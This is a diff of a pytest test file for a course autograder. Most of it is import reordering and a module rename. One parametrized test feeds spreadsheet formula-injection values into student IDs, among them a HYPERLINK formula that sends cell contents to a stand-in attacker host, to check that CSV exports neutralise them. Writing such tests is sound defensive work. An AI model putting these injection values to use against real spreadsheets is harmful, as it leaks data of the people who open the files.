@@ -20,9 +20,9 @@ from pathlib import Path
 import pytest
 
 import autograder
+from autograder.core.config import CourseConfig, load_config
 from autograder.grading.batch import BatchSummary, grade_batch, open_batch
 from autograder.grading.collect import MAX_ID_BYTES, safe_id
-from autograder.core.config import CourseConfig, load_config
 from autograder.outputs.exports import export_results, load_results
 
 TOY = Path(__file__).resolve().parents[1] / "toy_course"
@@ -235,7 +235,7 @@ def test_a_new_engine_version_grades_again(hostile: Graded, monkeypatch: pytest.
 
 def test_changed_engine_code_grades_again(hostile: Graded, monkeypatch: pytest.MonkeyPatch,
                                           tmp_path: Path) -> None:
-    from autograder.judge.runner import suite_hash
+    from autograder.judge.fingerprint import suite_hash
 
     copy = tmp_path / "autograder"
     shutil.copytree(Path(autograder.__file__).parent, copy, ignore=shutil.ignore_patterns("__pycache__"))
@@ -249,8 +249,8 @@ def test_changed_engine_code_grades_again(hostile: Graded, monkeypatch: pytest.M
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"grade")', "+cmd", "-1+2", "@SUM(A1)",
                                   "\t=1", "\r=1", "\n=1"])
 def test_every_csv_neutralises_formulas_in_ids(name: str) -> None:
-    from autograder.outputs.exports import lms_table
     from autograder.core.results import SubmissionResult, grades_table
+    from autograder.outputs.exports import lms_table
 
     result = SubmissionResult(student_id=name, sheet="toy", submission="toy.py", score=3.0)
     for text in (grades_table([result], ["basics"]), lms_table([result], id_column="id", grade_column="toy")):
